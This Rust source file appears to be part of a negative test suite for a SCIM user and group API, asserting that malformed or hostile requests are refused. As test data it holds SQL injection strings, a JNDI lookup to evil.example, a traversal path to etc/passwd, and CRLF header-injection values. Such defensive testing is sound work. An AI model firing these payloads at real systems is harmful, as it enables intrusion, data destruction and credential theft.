//! Queries in addresses and bodies, headers, and addresses themselves.

use serde_json::{Value, json};

use super::{Case, Subjects};

const SEARCH: &str = "urn:ietf:params:scim:api:messages:2.0:SearchRequest";

pub(super) fn cases(subjects: &Subjects) -> Vec<Case> {
    let mut cases = Vec::new();
    for endpoint in ["/Users/.search", "/Groups/.search", "/.search"] {
        for (what, parts, scim_type) in searches() {
            let mut body = json!({"schemas": [SEARCH]});
            body.as_object_mut().expect("an object").extend(parts.as_object().cloned().unwrap_or_default());
            cases.push(Case::json(format!("{what} by {endpoint}"), "POST", endpoint, body, scim_type));
        }
        cases.push(Case::json(
            format!("no schemas by {endpoint}"),
            "POST",
            endpoint,
            json!({"filter": "id pr"}),
            "invalidSyntax",
        ));
    }
    for endpoint in ["/Users", "/Groups"] {
        for (what, query, scim_type) in addresses() {
            let refused = [(400, Some(scim_type))];
            cases.push(Case::new(format!("{what} in {endpoint}"), "GET", format!("{endpoint}?{query}"), Vec::new, &refused));
        }
    }
    for (what, target) in nowhere() {
        for method in ["GET", "PUT", "PATCH", "DELETE"] {
            let body = || b"{\"userName\":\"x\",\"displayName\":\"x\"}".to_vec();
            let refused = [(404, None), (405, None), (400, Some("invalidSyntax"))];
            cases.push(Case::new(format!("{what} by {method}"), method, target.clone(), body, &refused));
        }
    }
    cases.extend(headers(subjects));
    cases
}

fn searches() -> Vec<(&'static str, Value, &'static str)> {
    let (syntax, filter, value, cursor) = ("invalidSyntax", "invalidFilter", "invalidValue", "invalidCursor");
    vec![
        ("a number as filter", json!({"filter": 1}), syntax),
        ("an object as filter", json!({"filter": {"$ne": null}}), syntax),
        ("a list as filter", json!({"filter": ["id pr"]}), syntax),
        ("a text as attributes", json!({"attributes": "id"}), syntax),
        ("numbers as attributes", json!({"attributes": [1]}), syntax),
        ("a text as count", json!({"count": "1"}), syntax),
        ("a list as count", json!({"count": [1]}), syntax),
        ("half a resource", json!({"count": 1.5}), value),
        ("more resources than there are atoms", json!({"count": 1e300}), value),
        ("half a place", json!({"startIndex": 0.5}), value),
        ("an object as startIndex", json!({"startIndex": {}}), syntax),
        ("wanted and not wanted", json!({"attributes": ["id"], "excludedAttributes": ["meta"]}), value),
        ("a number as sortBy", json!({"sortBy": 1}), syntax),
        ("an order by nothing", json!({"sortBy": ""}), value),
        ("an order by what nobody has", json!({"sortBy": "hostile\u{202e}"}), value),
        ("an order by a password", json!({"sortBy": "password"}), value),
        ("an order by a megabyte", json!({"sortBy": "x".repeat(1024 * 1024)}), value),
        ("an order by a filter", json!({"sortBy": "meta[created pr]"}), value),
        ("an order by SQL", json!({"sortBy": "id; drop table users"}), value),
        ("an order sideways", json!({"sortBy": "id", "sortOrder": "sideways"}), value),
        ("a list as sortOrder", json!({"sortBy": "id", "sortOrder": ["ascending"]}), syntax),
        ("a number as cursor", json!({"cursor": 1}), syntax),
        (
            "a cursor of our own making",
            json!({"cursor": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}),
            cursor,
        ),
        ("a cursor that is no text of ours", json!({"cursor": "\u{202e}\r\n"}), cursor),
        ("a cursor of a megabyte", json!({"cursor": "A".repeat(1024 * 1024)}), cursor),
        ("a cursor and a place", json!({"cursor": "", "startIndex": 1}), value),
        ("a cursor and half a resource", json!({"cursor": "", "count": 1.5}), "invalidCount"),
        ("an empty filter", json!({"filter": ""}), filter),
        ("a filter of a megabyte", json!({"filter": format!("id eq \"{}\"", "x".repeat(1024 * 1024))}), filter),
        ("a filter of a megabyte of parentheses", json!({"filter": "(".repeat(1024 * 1024)}), filter),
        ("a filter of a megabyte of negations", json!({"filter": "not(".repeat(262_144)}), filter),
        ("a filter of ten thousand terms", json!({"filter": vec!["id pr"; 10_000].join(" or ")}), filter),
        ("a filter one level too deep", json!({"filter": format!("{}id pr{}", "(".repeat(33), ")".repeat(33))}), filter),
        ("a filter one term too long", json!({"filter": vec!["id pr"; 101].join(" and ")}), filter),
        ("a filter for a password", json!({"filter": "password eq \"x\""}), filter),
        ("a filter with NUL", json!({"filter": "id eq \"\\u0000\""}), filter),
        ("a filter with a lone surrogate", json!({"filter": "id eq \"\\udfff\""}), filter),
        ("a filter with a direction", json!({"filter": "id\u{202e} eq \"x\""}), filter),
        ("a filter with single quotes", json!({"filter": "id eq 'x'"}), filter),
        ("a filter that is SQL", json!({"filter": "id eq \"x\" or 1=1; drop table users; --"}), filter),
        ("a filter that is a template", json!({"filter": "${jndi:ldap://evil.example/x}"}), filter),
        ("a filter with a huge number", json!({"filter": format!("id eq {}", "9".repeat(5_000))}), filter),
        ("a filter with a huge exponent", json!({"filter": "id eq 1e999999999"}), filter),
        ("a filter that compares types", json!({"filter": "meta.created eq true"}), filter),
        ("a filter on an impossible day", json!({"filter": "meta.created gt \"2026-02-30T00:00:00Z\""}), filter),
        ("a filter with an operator missing", json!({"filter": "id \"x\""}), filter),
        ("a filter with a word too many", json!({"filter": "id pr pr"}), filter),
        ("a filter by position", json!({"filter": "meta[0].created pr"}), filter),
    ]
}

/// Percent-encoded, as they stand in the request line.
fn addresses() -> Vec<(&'static str, String, &'static str)> {
    let (filter, value) = ("invalidFilter", "invalidValue");
    vec![
        ("an empty filter", "filter=".into(), filter),
        ("a filter of sixty kilobytes", format!("filter=id%20eq%20%22{}%22", "x".repeat(60_000)), filter),
        ("a filter with a raw NUL", "filter=id%20eq%20%22%00%22".into(), filter),
        ("a filter that is not UTF-8", "filter=id%20eq%20%22%ff%fe".into(), filter),
        ("a filter with a line break", "filter=id%0d%0aX-Injected:%201".into(), filter),
        ("a filter with half an escape", "filter=id%20eq%20%2".into(), filter),
        ("a filter twice, one of them wrong", "filter=id%20eq&filter=id%20pr".into(), filter),
        ("a count that is a word", "count=many".into(), value),
        ("a count that is a fraction", "count=1.5".into(), value),
        ("a count in another script", "count=%D9%A1".into(), value),
        ("a count with NUL", "count=1%00".into(), value),
        ("a startIndex that is a word", "startIndex=first".into(), value),
        ("a startIndex with a line break", "startIndex=1%0d%0aX-Injected:%201".into(), value),
        ("wanted and not wanted", "attributes=id&excludedAttributes=id".into(), value),
        ("a cursor with NUL", "cursor=%00".into(), "invalidCursor"),
        ("a cursor that is not UTF-8", "cursor=%ff".into(), "invalidCursor"),
        ("a cursor of sixty kilobytes", format!("cursor={}", "A".repeat(60_000)), "invalidCursor"),
        ("a cursor and a place", "cursor=&startIndex=1".into(), value),
        ("an order that is not UTF-8", "sortBy=%ff".into(), value),
        ("an order sideways", "sortBy=id&sortOrder=sideways".into(), value),
    ]
}

fn nowhere() -> Vec<(&'static str, String)> {
    vec![
        ("an id of sixty kilobytes", format!("/Users/{}", "x".repeat(60_000))),
        ("an id with NUL", "/Users/%00".into()),
        ("an id with a line break", "/Users/%0d%0aX-Injected:%201".into()),
        ("an id that climbs", "/Users/..%2f..%2f..%2fetc%2fpasswd".into()),
        ("an id that is SQL", "/Groups/1'%20or%20'1'='1".into()),
        ("an id that is not UTF-8", "/Groups/%ff%fe".into()),
        ("an id with a direction", "/Users/%e2%80%ae".into()),
        ("half an escape", "/Users/%2".into()),
    ]
}

fn headers(subjects: &Subjects) -> Vec<Case> {
    let mut cases = Vec::new();
    let user = || b"{\"userName\":\"hostile@acme.test\"}".to_vec();
    let post = |what: &str, refused| Case::new(what, "POST", "/Users", user, refused);
    for media_type in [
        "",
        "text/plain",
        "text/html",
        "text/xml",
        "application/xml",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/octet-stream",
        "application/scim",
        "application/json-patch+json",
        "application/merge-patch+json",
        "application/scim+json; charset=utf-16",
        "application/json; charset=iso-8859-1",
        "application/json, text/plain",
        "*/*",
        "application/json\tx",
        "junk",
        ";;;",
        "application/scim+json; charset=\"",
    ] {
        cases.push(post(&format!("the media type {media_type:?}"), &[(415, None)]).header("Content-Type", media_type));
    }
    cases.push(post("a media type that is no text", &[(415, None)]).header("Content-Type", b"application/\xff\xfe"));
    cases.push(post("a media type of thirty kilobytes", &[(415, None)]).header("Content-Type", "x/".repeat(15_000)));
    for token in ["Bearer", "Bearer  ", "Bearer x", "Basic eDp4", "bearer\tx", "Bearer ' or 1=1 --"] {
        cases.push(post(&format!("the authorization {token:?}"), &[(401, None)]).header("Authorization", token));
    }
    cases.push(post("an authorization that is no text", &[(401, None)]).header("Authorization", b"Bearer \xff"));
    let long = format!("Bearer {}", "x".repeat(30_000));
    cases.push(post("an authorization of thirty kilobytes", &[(401, None)]).header("Authorization", long));
    for (what, tag) in [
        ("a tag that is no text", b"W/\"\xff\"".to_vec()),
        ("ten thousand tags", "W/\"0\",".repeat(4_000).into_bytes()),
        ("a tag that does not end", b"W/\"1".repeat(9)),
        ("an empty condition", Vec::new()),
    ] {
        let body = || b"{\"userName\":\"ada@acme.test\",\"title\":\"hostile\"}".to_vec();
        cases.push(Case::new(what, "PUT", &subjects.user, body, &[(412, None)]).header("If-Match", tag));
    }
    cases
}
